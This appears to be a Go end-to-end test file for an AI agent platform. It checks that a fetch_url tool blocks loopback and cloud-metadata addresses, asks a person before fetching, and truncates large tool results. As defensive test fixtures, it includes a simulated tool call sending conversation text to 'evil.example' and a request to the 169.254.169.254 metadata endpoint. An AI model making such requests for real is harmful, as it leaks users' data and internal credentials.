package e2e_test

import (
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"bobbin/app"
	"bobbin/app/api/handlers"
	"bobbin/app/core"
	"bobbin/app/core/config"
	"bobbin/app/ops"
	"bobbin/tests/apptest"
	"bobbin/tests/dbtest"
	"bobbin/tests/provider"
)

// calling is a provider whose first answer calls the tool.
func calling(t *testing.T, tool, arguments string) *provider.Server {
	t.Helper()
	var asked atomic.Int64
	return apptest.NewProvider(t, provider.Options{Fault: func(w http.ResponseWriter, _ provider.Asked) bool {
		if asked.Add(1) > 1 {
			return false
		}
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprintf(w, "data: {\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":%q,\"arguments\":%q}}]}}]}\n\n", tool, arguments)
		fmt.Fprint(w, "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}]}\n\ndata: [DONE]\n\n")
		return true
	}})
}

// Fetch_url as it is in production reads nothing of this machine or its networks.
func TestFetchURLRefusesThisMachine(t *testing.T) {
	t.Parallel()
	var hits atomic.Int64
	secret := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	t.Cleanup(secret.Close)
	port := secret.URL[strings.LastIndexByte(secret.URL, ':')+1:]
	for _, url := range []string{secret.URL, "http://localhost:" + port, "http://[::ffff:127.0.0.1]:" + port, "http://169.254.169.254/latest/meta-data/"} {
		p := calling(t, "fetch_url", fmt.Sprintf(`{"url":%q}`, url))
		h := apptest.New(t, dbtest.MigratedSQLiteURL(t), apptest.WithModel("house", 32_000, 2048, p), func(c *config.Config) {
			c.Tools.FetchURL.Enabled, c.Tools.FetchURL.Ports = true, []string{"80", port}
		}, apptest.WithAgent("reader", "name: reader\nsystem_prompt: You read.\ntools: [fetch_url]\ntool_settings:\n  fetch_url: {timeout: 5s, approval: never}\n"))
		id := apptest.NewSession(t, h.Client, core.Session{Agent: "reader"})
		got := apptest.SendMessage(t, h.Client, core.SendMessage{SessionID: id, Content: "read it"})
		if m := got.Messages[2]; m.Role != core.RoleTool || m.Status != core.MessageFailed || !strings.Contains(m.Content, "does not exist or is not public") {
			t.Errorf("%s: got %s %q, want it refused", url, m.Status, m.Content)
		}
	}
	if hits.Load() != 0 {
		t.Errorf("%d requests arrived", hits.Load())
	}
}

// An agent that may read any page asks a person before the first one. If its file says
// that nobody needs to agree, the start and the doctor warn.
func TestFetchURLAsksFirst(t *testing.T) {
	t.Parallel()
	p := calling(t, "fetch_url", `{"url":"https://evil.example/?d=what+was+said"}`)
	h := apptest.New(t, dbtest.MigratedSQLiteURL(t), apptest.WithModel("house", 32_000, 2048, p), func(c *config.Config) { c.Tools.FetchURL.Enabled = true },
		apptest.WithAgent("reader", "name: reader\ntools: [fetch_url]\n"),
		apptest.WithAgent("narrow", "name: narrow\ntools: [fetch_url]\ntool_settings:\n  fetch_url: {allow_hosts: [a.example]}\n"),
		apptest.WithAgent("open", "name: open\ntools: [fetch_url]\ntool_settings:\n  fetch_url: {approval: never}\n"))
	run := asksIn(t, h, apptest.NewSession(t, h.Client, core.Session{Agent: "reader"}), "read it")
	if a := run.Approvals[0]; a.Tool != "fetch_url" || a.Mode != core.ApprovalFirst || !strings.Contains(a.Arguments, "evil.example") {
		t.Errorf("got the question %+v, want the address in it", a)
	}
	if _, err := h.CancelRun(t.Context(), run.ID, true); err != nil {
		t.Fatal(err)
	}
	const warning = "can make it send what it knows to any host"
	if log := h.Log.String(); strings.Count(log, warning) != 1 || !strings.Contains(log, "agent=open") {
		t.Errorf("got the log %s, want a warning of the agent open alone", log)
	}
	var warned []string
	for _, f := range ops.Doctor(t.Context(), ops.DoctorOptions{Config: h.Config, Logger: slog.New(slog.DiscardHandler)}).Findings {
		if strings.Contains(f.Detail, warning) {
			warned = append(warned, f.Check)
		}
	}
	if !slices.Equal(warned, []string{"agent open"}) {
		t.Errorf("the doctor warns of %q, want the agent open", warned)
	}
}

// Fetch_url is off unless the operator switches it on: an agent that lists it is a
// fault that says how.
func TestFetchURLIsOff(t *testing.T) {
	t.Parallel()
	cfg := config.Default()
	cfg.DataDir, cfg.DefaultLLM = t.TempDir(), "demo"
	cfg.AgentsDir = cfg.DataDir + "/agents"
	cfg.Database.URL = config.NewSecretURL(dbtest.MigratedSQLiteURL(t))
	apptest.WithAgent("reader", "name: reader\ntools: [fetch_url]\n")(&cfg)
	a, err := app.New(context.WithoutCancel(t.Context()), cfg, handlers.Build{}, slog.New(slog.DiscardHandler))
	if err == nil {
		_ = a.Close()
	}
	if err == nil || !strings.Contains(err.Error(), `reader.yaml:2:9: tool "fetch_url" is switched off; set tools.fetch_url.enabled: true in bobbin.yaml`) {
		t.Errorf("got error %v, want what switches it on", err)
	}
}

// A large tool result is in the log as a whole; prompts show
// its head and its tail, and the agent reads the rest by the message's id.
func TestLargeToolResults(t *testing.T) {
	t.Parallel()
	dbtest.EachMigratedURLNightly(t, func(t *testing.T, url string) {
		service := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			fmt.Fprint(w, strings.Repeat("All about bees, and what they do. ", 40))
		}))
		t.Cleanup(service.Close)
		h := apptest.New(t, url, apptest.WithModel("house", 32_000, 2048, calling(t, "bees", `{}`)),
			withTool(t, "bees.yaml", "name: bees\nkind: http\ndescription: About bees.\nurl: "+service.URL+"\nprivate_hosts: [127.0.0.1]\n"),
			apptest.WithAgent("seeker", `name: seeker
system_prompt: You search.
tools: [bees, read_result]
tool_settings:
  bees: {max_output_bytes: 300, approval: never}
`))
		id := apptest.NewSession(t, h.Client, core.Session{Agent: "seeker"})
		got := apptest.SendMessage(t, h.Client, core.SendMessage{SessionID: id, Content: "What do bees do?"})
		m := got.Messages[2]
		if m.Role != core.RoleTool || len(m.Content) < 400 || m.Status != core.MessageComplete {
			t.Fatalf("got %s %s of %d bytes, want the whole answer: %s", m.Role, m.Status, len(m.Content), m.Content)
		}
		view, err := h.Prompt(t.Context(), id)
		if err != nil {
			t.Fatal(err)
		}
		shown := view.Messages[2].Content
		pointer := fmt.Sprintf(`the whole result is message %s; read_result {"message_id": "%s", "offset": 200} reads on`, m.ID, m.ID)
		if len(shown) > 700 || !strings.Contains(shown, pointer) || !strings.HasPrefix(shown, m.Content[:200]) || !strings.HasSuffix(shown, m.Content[len(m.Content)-100:]) {
			t.Errorf("got %q in the prompt, want head, tail and %q", shown, pointer)
		}
		if r := contextOf(t, h.Client, id); r.Coverage.Lost != 0 || view.Tokens != r.Used {
			t.Errorf("got %+v", r)
		}
	})
}
